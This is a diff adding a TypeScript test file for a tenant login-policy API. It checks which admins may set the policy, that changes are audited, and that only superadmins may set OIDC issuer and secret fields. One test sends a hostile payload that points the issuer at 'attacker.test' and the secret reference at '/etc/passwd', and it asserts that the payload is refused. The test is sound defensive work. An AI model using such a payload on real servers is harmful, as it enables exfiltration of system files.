@@ -1,0 +1,126 @@
+/**
+ * `PUT/GET /api/v1/tenants/{t}/login` (lib/services/login_policies.ts):
+ * a superadmin or a tenant admin (human or token) sets and reads a
+ * tenant's login policy, audited; everyone else is refused.
+ */
+import { assertEquals } from "../assert.ts";
+import { listAudit } from "../../lib/store/audit.ts";
+import { signInTest } from "../http/auth/world.ts";
+
+const POLICY = { method: "email", domains: ["acme.test"] };
+
+signInTest(
+  "a superadmin sets a tenant's login policy; the change is audited and read back",
+  async (w) => {
+    const put = await w.json("PUT", "/api/v1/tenants/acme/login", {
+      bearer: w.admin,
+      body: POLICY,
+    });
+    assertEquals(put.status, 200);
+    assertEquals(put.body.policy, POLICY);
+    const get = await w.json("GET", "/api/v1/tenants/acme/login", { bearer: w.admin });
+    assertEquals([get.body.tenant_slug, get.body.policy], ["acme", POLICY]);
+    const audit = await listAudit(w.kv, { tenant: "acme", type: "tenant.login_policy_changed" });
+    assertEquals(audit.items.map((e) => e.details.method), ["email"]);
+    const none = await w.json("GET", "/api/v1/tenants/other/login", { bearer: w.admin });
+    assertEquals([none.status, none.body.code], [404, "not_found"]);
+    const gone = await w.json("PUT", "/api/v1/tenants/nope/login", {
+      bearer: w.admin,
+      body: POLICY,
+    });
+    assertEquals([gone.status, gone.body.code], [404, "tenant_not_found"]);
+  },
+);
+
+signInTest("tenant admins set their own tenant's policy, nobody else does", async (w) => {
+  const mint = async (body: Record<string, unknown>) =>
+    ((await w.json("POST", "/api/v1/tokens", { bearer: w.admin, body })).body.secret) as string;
+  await w.json("POST", "/api/v1/tenants/acme/namespaces", {
+    bearer: w.admin,
+    body: { slug: "web" },
+  });
+  const tenantToken = await mint({ type: "tenant-admin", name: "t", tenant_slug: "acme" });
+  const writeToken = await mint({
+    type: "namespace-write",
+    name: "w",
+    tenant_slug: "acme",
+    namespace_slug: "web",
+  });
+  const otherAdmin = await mint({ type: "tenant-admin", name: "o", tenant_slug: "other" });
+  const member = await w.person("ana@acme.test", "acme");
+  const human = await w.person("boss@acme.test", "acme");
+  await w.json("POST", "/api/v1/tenants/acme/admins", {
+    bearer: w.admin,
+    body: { user_id: human.user_id },
+  });
+  const put = (bearer: string) =>
+    w.json("PUT", "/api/v1/tenants/acme/login", { bearer, body: POLICY });
+  assertEquals((await put(tenantToken)).status, 200);
+  assertEquals((await put(human.secret)).status, 200);
+  for (const refused of [writeToken, otherAdmin, member.secret]) {
+    const res = await put(refused);
+    assertEquals([res.status, res.body.code], [403, "forbidden"]);
+    const read = await w.json("GET", "/api/v1/tenants/acme/login", { bearer: refused });
+    assertEquals(read.status, 403);
+  }
+});
+
+signInTest("a bad policy is refused before anything is stored", async (w) => {
+  const bad = await w.json("PUT", "/api/v1/tenants/acme/login", {
+    bearer: w.admin,
+    body: { method: "oidc", issuer: "https://idp.test", client_id: "c", client_secret: "plain" },
+  });
+  assertEquals([bad.status, bad.body.code], [400, "invalid_request"]);
+  assertEquals(
+    (await w.call("GET", "/api/v1/tenants/acme/login", { bearer: w.admin })).status,
+    404,
+  );
+});
+
+signInTest("deleting a tenant removes its login policy", async (w) => {
+  await w.json("PUT", "/api/v1/tenants/acme/login", { bearer: w.admin, body: POLICY });
+  await w.call("DELETE", "/api/v1/tenants/acme", { bearer: w.admin });
+  await w.call("POST", "/api/v1/tenants", { bearer: w.admin, body: { slug: "acme" } });
+  assertEquals(
+    (await w.call("GET", "/api/v1/tenants/acme/login", { bearer: w.admin })).status,
+    404,
+  );
+});
+
+const OIDC = {
+  method: "oidc",
+  issuer: "https://idp.acme.test",
+  client_id: "cfgtool",
+  client_secret_ref: "env:ACME_SECRET",
+};
+
+signInTest("only a superadmin points an OIDC policy at an issuer and a secret", async (w) => {
+  const tenantToken = (await w.json("POST", "/api/v1/tokens", {
+    bearer: w.admin,
+    body: { type: "tenant-admin", name: "t", tenant_slug: "acme" },
+  })).body.secret as string;
+  const put = (bearer: string, body: Record<string, unknown>) =>
+    w.json("PUT", "/api/v1/tenants/acme/login", { bearer, body });
+  // A tenant admin choosing issuer and secret file could make the server send the file anywhere.
+  const exfiltrate = await put(tenantToken, {
+    ...OIDC,
+    issuer: "https://attacker.test",
+    client_secret_ref: "file:/etc/passwd",
+  });
+  assertEquals([exfiltrate.status, exfiltrate.body.code], [403, "forbidden"]);
+  assertEquals((await put(w.admin, OIDC)).status, 200);
+  const groups = await put(tenantToken, { ...OIDC, admin_groups: ["flag-admins"] });
+  assertEquals(
+    groups.status,
+    200,
+    "the rest of a superadmin's OIDC policy is the tenant's to change",
+  );
+  for (const field of ["issuer", "client_id", "client_secret_ref"]) {
+    const moved = await put(tenantToken, {
+      ...OIDC,
+      [field]: field === "issuer" ? "https://x.test" : "env:OTHER",
+    });
+    assertEquals(moved.status, 403, field);
+  }
+  assertEquals((await put(tenantToken, POLICY)).status, 200, "switching to email sign-in is fine");
+});
